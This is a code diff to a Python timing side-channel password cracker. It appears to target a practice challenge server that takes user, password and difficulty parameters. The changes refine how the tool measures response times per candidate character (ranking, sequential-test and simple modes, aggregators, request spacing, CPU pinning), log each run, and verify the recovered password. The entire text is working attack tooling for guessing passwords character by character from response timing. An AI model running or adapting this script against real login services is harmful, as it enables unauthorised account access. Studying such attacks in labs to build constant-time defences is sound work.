+            selected_score = chosen_score
             method = "ranking"
+            stage2_skipped = debug["stage2_skipped"]
 
             # For richer logging, also show the quick-stage times (which moved forward)
-            moved_chars = [{"char": c["char"], "quick_median": c["median"], "quick_samples": c["samples"]} for c in top_candidates]
+            moved_chars = [{"char": c["char"], "quick_score": c["score"], "quick_samples": c["samples"]} for c in top_candidates]
+
+        elif use_sequential:
+            # Sequential mode: sample in rounds until the leader is significant
+            selected_char, selected_score, seq_debug = crack_character_sequential(
+                executor, username, discovered, length, difficulty,
+                seq_alpha, seq_batch, seq_max_samples, aggregate, spacing_us,
+                simple_workers, serial
+            )
+            leaders = top_scores(seq_debug["results"], max(5, top_k))
+            outcome = "significant" if seq_debug["decided"] else "budget exhausted, picked by score"
+            log(2, f"\n[{pos_start_iso}] Sequential test: {seq_debug['rounds']} round(s), p={seq_debug['p_value']:.4g} ({outcome})")
+            log(2, f"[{pos_start_iso}] Sequential-mode top 5 candidates:")
+            for i, c in enumerate(leaders[:5], start=1):
+                log(2, f"  {i}. '{c['char']}'  pwd='{candidate_password(discovered, c['char'], length)}'  score={fmt_time(c['score'])}  samples={c['samples']}")
+
+            method = "sequential"
+            stage2_skipped = False
+            moved_chars = [{"char": r["char"], "score": r["score"], "samples": r["samples"]} for r in leaders[:top_k]]
 
         else:
             # Simple mode: measure all chars fully and print top few
-            results = []
-            padding_length = length - len(discovered) - 1
-            padding = "a" * padding_length
-            for ch in CHARSET:
-                test_pwd = discovered + ch + padding
-                times = parallel_measurements(username, test_pwd, difficulty, simple_measurements, simple_workers)
-                med = median_time_from_list(times)
-                results.append({"char": ch, "pwd": test_pwd, "median": med, "samples": len(times)})
-            results.sort(key=lambda x: x["median"], reverse=True)
-
-            print(f"\n[{now_iso()}] Simple-mode top 5 candidates:")
-            for i, c in enumerate(results[:5], start=1):
-                print(f"  {i}. '{c['char']}'  pwd='{c['pwd']}'  median={fmt_time(c['median'])}  samples={c['samples']}")
-
-            selected_char = results[0]["char"]
-            selected_median = results[0]["median"]
+            selected_char, selected_score, simple_debug = crack_character_simple(
+                executor, username, discovered, length, difficulty, simple_measurements,
+                aggregate, spacing_us, simple_workers, serial
+            )
+            leaders = top_scores(simple_debug["results"], max(5, top_k))
+
+            log(2, f"\n[{pos_start_iso}] Simple-mode top 5 candidates:")
+            for i, c in enumerate(leaders[:5], start=1):
+                log(2, f"  {i}. '{c['char']}'  pwd='{candidate_password(discovered, c['char'], length)}'  score={fmt_time(c['score'])}  samples={c['samples']}")
+
             method = "simple"
-            moved_chars = [{"char": r["char"], "median": r["median"], "samples": r["samples"]} for r in results[:top_k]]
+            stage2_skipped = False
+            moved_chars = [{"char": r["char"], "score": r["score"], "samples": r["samples"]} for r in leaders[:top_k]]
 
         # finalize this position
         discovered += selected_char
-        pos_end_perf = perf_time()
+        pos_end_perf = perf_time_ns()
         pos_elapsed = pos_end_perf - pos_start_perf
         run_elapsed = pos_end_perf - run_start_perf
 
-        print(f"\n[{now_iso()}] Selected '{selected_char}'  median={fmt_time(selected_median)}  (method={method})")
-        print(f"Position finished at {now_iso()}")
-        print(f"Elapsed for this position: {fmt_time(pos_elapsed)}")
-        print(f"Elapsed since phase start: {fmt_time(run_elapsed)}")
+        pos_end_iso = now_iso()
+        log(1, f"\n[{pos_end_iso}] Selected '{selected_char}'  score={fmt_time(selected_score)}  (method={method})")
+        log(1, f"Position finished at {pos_end_iso}")
+        log(1, f"Elapsed for this position: {fmt_time(pos_elapsed)}")
+        log(1, f"Elapsed since phase start: {fmt_time(run_elapsed)}")
 
         # additionally print which letters moved forward each time (with quick times if ranking)
         if use_ranking:
-            print("\nLetters that moved to full-stage (with quick-stage medians):")
+            if stage2_skipped:
+                log(2, "\nQuick-stage top candidates (full stage skipped, none moved forward):")
+            else:
+                log(2, "\nLetters that moved to full-stage (with quick-stage scores):")
             for idx, mc in enumerate(moved_chars, start=1):
-                print(f"  {idx}. '{mc['char']}' quick_median={fmt_time(mc['quick_median'])} samples={mc['quick_samples']}")
+                log(2, f"  {idx}. '{mc['char']}' quick_score={fmt_time(mc['quick_score'])} samples={mc['quick_samples']}")
         else:
-            print("\nTop candidates summary (simple mode):")
+            log(2, f"\nTop candidates summary ({method} mode):")
             for idx, mc in enumerate(moved_chars, start=1):
-                print(f"  {idx}. '{mc['char']}' median={fmt_time(mc['median'])} samples={mc['samples']}")
+                log(2, f"  {idx}. '{mc['char']}' score={fmt_time(mc['score'])} samples={mc['samples']}")
 
         # record per-character log
         per_char_log.append({
             "position": pos,
             "char": selected_char,
-            "selected_median": selected_median,
+            "selected_score": selected_score,
             "method": method,
+            "stage2_skipped": stage2_skipped,
             "moved_chars": moved_chars,
-            "timestamp_end": now_iso(),
-            "elapsed_for_position_seconds": pos_elapsed,
-            "elapsed_since_phase_start_seconds": run_elapsed
+            "timestamp_end": pos_end_iso,
+            "elapsed_for_position_seconds": ns_to_s(pos_elapsed),
+            "elapsed_since_phase_start_seconds": ns_to_s(run_elapsed)
         })
+        if on_position is not None:
+            on_position(per_char_log[-1])
 
-    total_end_perf = perf_time()
+    total_end_perf = perf_time_ns()
     total_elapsed = total_end_perf - run_start_perf
-    print(f"\n[PHASE 2 END] Completed at {now_iso()}  total phase duration: {fmt_time(total_elapsed)}")
+    log(0, f"\n[PHASE 2 END] Completed at {now_iso()}  total phase duration: {fmt_time(total_elapsed)}")
     return discovered, per_char_log
 
 # --- Verification ----------------------------------------------------------
 def verify_password(username: str, password: str, difficulty: int) -> bool:
-    url = f"{BASE_URL}/?user={username}&password={password}&difficulty={difficulty}"
+    url = build_url(username, password, difficulty)
     try:
-        r = requests.get(url, timeout=10)
-        return "1" in r.text
+        # a non-200 is a failure without reading the body at all; otherwise scan
+        # the raw body bytes as they stream in, with no text decoding
+        with requests.get(url, timeout=10, stream=True) as r:
+            return r.status_code == 200 and any(b"1" in chunk for chunk in r.iter_content(512))
     except Exception:
         return False
 
 # --- Save summary ----------------------------------------------------------
+def open_run_log(output_dir: str, config: Dict) -> Optional[TextIO]:
+    """Open a JSONL log for this run and write its header line; None if it cannot be created.
+
+    Records are appended as the run produces them, so a killed run still leaves
+    every finished position on disk.
+    """
+    try:
+        os.makedirs(output_dir, exist_ok=True)
+        ts = datetime.now().strftime("%Y%m%d_%H%M%S")
+        # line buffered: each record reaches the file as soon as it is written
+        run_log = open(os.path.join(output_dir, f"run_log_{ts}.jsonl"), "w", buffering=1)
+    except OSError as e:
+        print(f"✗ Could not open run log: {e}")
+        return None
+    write_run_log(run_log, "header", {"config": config, "start": now_iso(), "time_unit": "ns"})
+    return run_log
+
+def write_run_log(run_log: Optional[TextIO], kind: str, record: Dict) -> None:
+    if run_log is not None:
+        run_log.write(json.dumps({"type": kind, **record}) + "\n")
+
 def save_run_summary(output_dir: str,
                      config: Dict,
                      password_length: Optional[int],
@@ -263,7 +777,7 @@ def save_run_summary(output_dir: str,
                      per_char_log: Optional[List[Dict]],
                      start_iso: str,
                      end_iso: str,
-                     total_elapsed: float) -> str:
+                     total_elapsed: int) -> str:
     os.makedirs(output_dir, exist_ok=True)
     ts = datetime.now().strftime("%Y%m%d_%H%M%S")
     json_fname = os.path.join(output_dir, f"run_summary_{ts}.json")
@@ -275,8 +789,10 @@ def save_run_summary(output_dir: str,
         "discovered_password": discovered_password,
         "start": start_iso,
         "end": end_iso,
-        "total_elapsed_seconds": total_elapsed,
+        "total_elapsed_seconds": ns_to_s(total_elapsed),
+        "time_unit": "ns",  # unit of all per-char score values
         "per_char_count": len(per_char_log) if per_char_log else 0,
+        "stage2_skipped_count": sum(1 for e in per_char_log if e["stage2_skipped"]) if per_char_log else 0,
     }
 
     try:
@@ -296,10 +812,11 @@ def save_run_summary(output_dir: str,
             tf.write(f"  - Password length: {password_length}\n")
             tf.write(f"  - Discovered password: {discovered_password}\n")
             tf.write(f"  - Per-character results: {len(per_char_log) if per_char_log else 0}\n")
+            tf.write(f"  - Positions with full stage skipped: {summary['stage2_skipped_count']}\n")
             tf.write("\nPer-character details (short):\n")
             if per_char_log:
                 for entry in per_char_log:
-                    tf.write(f"  - pos {entry['position']}: '{entry['char']}'  median={fmt_time(entry['selected_median'])}  elapsed_pos={fmt_time(entry['elapsed_for_position_seconds'])}\n")
+                    tf.write(f"  - pos {entry['position']}: '{entry['char']}'  score={fmt_time(entry['selected_score'])}  elapsed_pos={entry['elapsed_for_position_seconds']:.9f}s\n")
             tf.write("\n(For full details see JSON file.)\n")
         print(f"\n✓ Summary saved to:\n  - {txt_fname}\n  - {json_fname}")
         return txt_fname
@@ -322,22 +839,55 @@ def get_int_input(prompt: str, default: int, min_val: int = 1, max_val: int = 10
         except ValueError:
             print("Please enter a valid integer")
 
+def get_choice_input(prompt: str, default: str, choices: List[str]) -> str:
+    while True:
+        raw = input(f"{prompt} ({'/'.join(choices)}) [{default}]: ").strip().lower()
+        if raw == "":
+            return default
+        if raw in choices:
+            return raw
+        print(f"Please enter one of: {', '.join(choices)}")
+
 def interactive_menu():
+    global VERBOSE
+    # probes are pure network I/O, so several threads per core stay busy
+    default_workers = min(POOL_SIZE, (os.cpu_count() or 4) * 5)
     cfg = {
         "username": "",
         "difficulty": 1,
-        "measurements": 8,
-        "workers": 8,
+        "length_round_probes": 2,
+        "workers": default_workers,
         # ranking defaults
         "use_ranking": True,
         "quick_measurements": 2,
-        "quick_workers": 6,
+        "quick_workers": default_workers,
+        # stop the quick stage once the leader is this many MADs clear (0 = never);
+        # only takes effect with 3+ quick measurements, as it is checked from round 2
+        # and a check on the final round would save nothing
+        "quick_exit_mads": 6,
         "full_measurements": 6,
-        "full_workers": 8,
+        "full_workers": default_workers,
         "top_k": 3,
+        "use_paired": False,
         # simple mode fallback
         "simple_measurements": 8,
-        "simple_workers": 8,
+        "simple_workers": default_workers,
+        # sequential-test mode (alternative to simple mode)
+        "use_sequential": False,
+        "seq_alpha": 0.01,
+        "seq_batch": 4,
+        "seq_max_samples": 32,
+        # how each candidate's samples are reduced to a score (see AGGREGATORS)
+        "aggregator": "low_mean",
+        # minimum gap between probe starts (0 on loopback, 300 for remote targets)
+        "request_spacing_us": default_spacing_us(),
+        # send each candidate's repeated probes back-to-back in one task, so only
+        # different candidates are ever in flight together
+        "serial_per_candidate": True,
+        # pin probe threads to CPUs and raise their priority (Linux; priority needs root)
+        "pin_cpus": False,
+        # console detail during the phases (see log)
+        "verbosity": VERBOSE,
         "output_dir": "attack_runs"
     }
 
@@ -353,25 +903,42 @@ def interactive_menu():
         print("Username cannot be empty.")
 
     cfg["difficulty"] = get_int_input("Difficulty (1-10)", default=cfg["difficulty"], min_val=1, max_val=10)
-    cfg["measurements"] = get_int_input("Measurements per probe (default for length finding)", default=cfg["measurements"], min_val=1, max_val=200)
-    cfg["workers"] = get_int_input("Parallel workers (default for length finding)", default=cfg["workers"], min_val=1, max_val=200)
+    cfg["length_round_probes"] = get_int_input("Probes per length in each halving round (length finding)", default=cfg["length_round_probes"], min_val=1, max_val=200)
+    cfg["workers"] = get_int_input("Parallel workers (default for length finding)", default=cfg["workers"], min_val=1, max_val=POOL_SIZE)
+    cfg["aggregator"] = get_choice_input("Score aggregator", default=cfg["aggregator"], choices=list(AGGREGATORS))
+    cfg["request_spacing_us"] = get_int_input("Minimum spacing between probes in microseconds", default=cfg["request_spacing_us"], min_val=0, max_val=100000)
+    serial_raw = input(f"Send each candidate's repeated probes serially? (y/n) [{'y' if cfg['serial_per_candidate'] else 'n'}]: ").strip().lower()
+    cfg["serial_per_candidate"] = (serial_raw != "n")
+    pin_raw = input(f"Pin probe threads to CPUs and raise priority? (y/n) [{'y' if cfg['pin_cpus'] else 'n'}]: ").strip().lower()
+    cfg["pin_cpus"] = (pin_raw == "y")
+    cfg["verbosity"] = get_int_input("Console verbosity (0 = phases only, 1 = progress, 2 = candidate tables)", default=cfg["verbosity"], min_val=0, max_val=2)
+    VERBOSE = cfg["verbosity"]
 
     use_rank_raw = input(f"Use ranking two-stage mode? (y/n) [{'y' if cfg['use_ranking'] else 'n'}]: ").strip().lower()
     cfg["use_ranking"] = (use_rank_raw != "n")
 
     if cfg["use_ranking"]:
         cfg["quick_measurements"] = get_int_input("Quick measurements per candidate (stage 1)", default=cfg["quick_measurements"], min_val=1, max_val=10)
-        cfg["quick_workers"] = get_int_input("Workers for quick stage", default=cfg["quick_workers"], min_val=1, max_val=200)
+        cfg["quick_workers"] = get_int_input("Workers for quick stage", default=cfg["quick_workers"], min_val=1, max_val=POOL_SIZE)
+        cfg["quick_exit_mads"] = get_int_input("Quick-stage early exit margin in MADs (0 = off; needs 3+ quick measurements)", default=cfg["quick_exit_mads"], min_val=0, max_val=100)
         cfg["full_measurements"] = get_int_input("Full measurements per candidate (stage 2)", default=cfg["full_measurements"], min_val=1, max_val=200)
-        cfg["full_workers"] = get_int_input("Workers for full stage", default=cfg["full_workers"], min_val=1, max_val=200)
+        cfg["full_workers"] = get_int_input("Workers for full stage", default=cfg["full_workers"], min_val=1, max_val=POOL_SIZE)
         cfg["top_k"] = get_int_input("Top-K candidates to keep after quick stage", default=cfg["top_k"], min_val=1, max_val=len(CHARSET))
+        use_paired_raw = input(f"Pair quick-stage probes with a reference request? (y/n) [{'y' if cfg['use_paired'] else 'n'}]: ").strip().lower()
+        cfg["use_paired"] = (use_paired_raw == "y")
     else:
-        cfg["simple_measurements"] = get_int_input("Measurements per char (simple mode)", default=cfg["simple_measurements"], min_val=1, max_val=200)
-        cfg["simple_workers"] = get_int_input("Workers for simple mode", default=cfg["simple_workers"], min_val=1, max_val=200)
+        use_seq_raw = input(f"Use sequential-test mode instead of simple mode? (y/n) [{'y' if cfg['use_sequential'] else 'n'}]: ").strip().lower()
+        cfg["use_sequential"] = (use_seq_raw == "y")
+        if cfg["use_sequential"]:
+            cfg["seq_batch"] = get_int_input("Probes per char per round (sequential mode)", default=cfg["seq_batch"], min_val=1, max_val=50)
+            cfg["seq_max_samples"] = get_int_input("Max probes per char before falling back to score", default=cfg["seq_max_samples"], min_val=cfg["seq_batch"], max_val=1000)
+        else:
+            cfg["simple_measurements"] = get_int_input("Measurements per char (simple mode)", default=cfg["simple_measurements"], min_val=1, max_val=200)
+        cfg["simple_workers"] = get_int_input("Workers for simple/sequential mode", default=cfg["simple_workers"], min_val=1, max_val=POOL_SIZE)
 
     print("\nSummary of configuration:")
     for k, v in cfg.items():
-        if k.startswith("quick_") or k.startswith("full_") or k.startswith("simple_") or k in ("use_ranking","top_k"):
+        if k.startswith("quick_") or k.startswith("full_") or k.startswith("simple_") or k.startswith("seq_") or k in ("use_ranking","top_k","use_paired","use_sequential","aggregator","request_spacing_us"):
             print(f"  - {k}: {v}")
     print("=" * 70)
 
@@ -381,42 +948,76 @@ def interactive_menu():
     print("3. Full attack (Phase 1 + Phase 2)")
     choice = get_int_input("Enter choice (1-3)", default=3, min_val=1, max_val=3)
 
+    aggregate = AGGREGATORS[cfg["aggregator"]]
+    run_log = open_run_log(cfg["output_dir"], cfg)
+    on_position = partial(write_run_log, run_log, "position")
     run_start_iso = now_iso()
-    run_start_perf = perf_time()
+    run_start_perf = perf_time_ns()
     print(f"\n[RUN START] {run_start_iso}")
 
     password_length = None
     discovered_password = None
     per_char_log = None
 
-    if choice == 1:
-        print(f"\n=== PHASE 1 ===")
-        password_length, length_debug = find_password_length(cfg["username"], cfg["difficulty"], cfg["measurements"], cfg["workers"])
-        print(f"\nDetected length: {password_length}")
-    elif choice == 2:
-        length_val = get_int_input(f"Enter known password length (1-{MAX_LENGTH})", default=8, min_val=1, max_val=MAX_LENGTH)
-        discovered_password, per_char_log = crack_password(
-            cfg["username"], cfg["difficulty"], length_val,
-            cfg["use_ranking"],
-            cfg["quick_measurements"], cfg["quick_workers"],
-            cfg["full_measurements"], cfg["full_workers"],
-            cfg["top_k"],
-            cfg["simple_measurements"], cfg["simple_workers"]
-        )
-    elif choice == 3:
-        print(f"\n=== PHASE 1 ===")
-        password_length, length_debug = find_password_length(cfg["username"], cfg["difficulty"], cfg["measurements"], cfg["workers"])
-        print(f"\nDetected length: {password_length}")
-        discovered_password, per_char_log = crack_password(
-            cfg["username"], cfg["difficulty"], password_length,
-            cfg["use_ranking"],
-            cfg["quick_measurements"], cfg["quick_workers"],
-            cfg["full_measurements"], cfg["full_workers"],
-            cfg["top_k"],
-            cfg["simple_measurements"], cfg["simple_workers"]
-        )
+    # one executor for both phases, sized for the widest stage; each stage still
+    # caps its own in-flight probes at its configured worker count
+    pool_size = max(cfg["workers"], cfg["quick_workers"], cfg["full_workers"], cfg["simple_workers"])
+    # pinning and priority keep scheduler migrations and preemption out of the timings
+    initializer = None
+    if cfg["pin_cpus"]:
+        initializer = make_cpu_pinner()
+        if initializer is None:
+            print("CPU pinning is not supported on this platform; continuing unpinned")
+        if not raise_priority():
+            print("Could not raise priority (needs elevated privileges); continuing at normal priority")
+    executor = ThreadPoolExecutor(max_workers=pool_size, thread_name_prefix="probe", initializer=initializer)
+    try:
+        if choice == 1:
+            print(f"\n=== PHASE 1 ===")
+            password_length, length_debug = find_password_length(executor, cfg["username"], cfg["difficulty"], cfg["length_round_probes"], cfg["workers"],
+                                                                      aggregate, cfg["request_spacing_us"], cfg["serial_per_candidate"])
+            print(f"\nDetected length: {password_length}")
+            write_run_log(run_log, "length", length_debug)
+        elif choice == 2:
+            length_val = get_int_input(f"Enter known password length (1-{MAX_LENGTH})", default=8, min_val=1, max_val=MAX_LENGTH)
+            discovered_password, per_char_log = crack_password(
+                executor, cfg["username"], cfg["difficulty"], length_val,
+                cfg["use_ranking"],
+                cfg["quick_measurements"], cfg["quick_workers"],
+                cfg["full_measurements"], cfg["full_workers"],
+                cfg["top_k"],
+                cfg["simple_measurements"], cfg["simple_workers"],
+                cfg["use_paired"],
+                cfg["use_sequential"], cfg["seq_alpha"],
+                cfg["seq_batch"], cfg["seq_max_samples"],
+                aggregate, cfg["request_spacing_us"],
+                cfg["quick_exit_mads"], cfg["serial_per_candidate"],
+                on_position
+            )
+        elif choice == 3:
+            print(f"\n=== PHASE 1 ===")
+            password_length, length_debug = find_password_length(executor, cfg["username"], cfg["difficulty"], cfg["length_round_probes"], cfg["workers"],
+                                                                      aggregate, cfg["request_spacing_us"], cfg["serial_per_candidate"])
+            print(f"\nDetected length: {password_length}")
+            write_run_log(run_log, "length", length_debug)
+            discovered_password, per_char_log = crack_password(
+                executor, cfg["username"], cfg["difficulty"], password_length,
+                cfg["use_ranking"],
+                cfg["quick_measurements"], cfg["quick_workers"],
+                cfg["full_measurements"], cfg["full_workers"],
+                cfg["top_k"],
+                cfg["simple_measurements"], cfg["simple_workers"],
+                cfg["use_paired"],
+                cfg["use_sequential"], cfg["seq_alpha"],
+                cfg["seq_batch"], cfg["seq_max_samples"],
+                aggregate, cfg["request_spacing_us"],
+                cfg["quick_exit_mads"], cfg["serial_per_candidate"],
+                on_position
+            )
+    finally:
+        executor.shutdown()
 
-    run_end_perf = perf_time()
+    run_end_perf = perf_time_ns()
     run_end_iso = now_iso()
     total_elapsed = run_end_perf - run_start_perf
 
@@ -424,17 +1025,31 @@ def interactive_menu():
     print(f"[RUN END] {run_end_iso}  Total run duration: {fmt_time(total_elapsed)}")
     print("=" * 70)
 
+    write_run_log(run_log, "summary", {"password_length": password_length, "discovered_password": discovered_password,
+                                       "start": run_start_iso, "end": run_end_iso,
+                                       "total_elapsed_seconds": ns_to_s(total_elapsed)})
+    if run_log is not None:
+        run_log.close()
+
     if discovered_password:
-        print("\nVerification:")
+        # Save summary on a background thread so serialization overlaps the
+        # verification request instead of delaying the result
+        config_for_save = {k: cfg[k] for k in cfg if not k.startswith("simple_") or cfg["use_ranking"] is False}
+        saver = threading.Thread(
+            target=save_run_summary,
+            args=(cfg["output_dir"], config_for_save, password_length, discovered_password, per_char_log, run_start_iso, run_end_iso, total_elapsed),
+        )
+        saver.start()
+
         ok = verify_password(cfg["username"], discovered_password, cfg["difficulty"])
+        # the saver prints its own report; wait for it so the verification
+        # block always comes last
+        saver.join()
+        print("\nVerification:")
         if ok:
             print(f"✓ SUCCESS - password '{discovered_password}' verified")
         else:
             print(f"✗ Attempted password '{discovered_password}' did not verify")
-
-        # Save summary
-        config_for_save = {k: cfg[k] for k in cfg if not k.startswith("simple_") or cfg["use_ranking"] is False}
-        save_run_summary(cfg["output_dir"], config_for_save, password_length, discovered_password, per_char_log, run_start_iso, run_end_iso, total_elapsed)
     elif password_length:
         print(f"\nPassword length found: {password_length} (no cracking run performed)")
 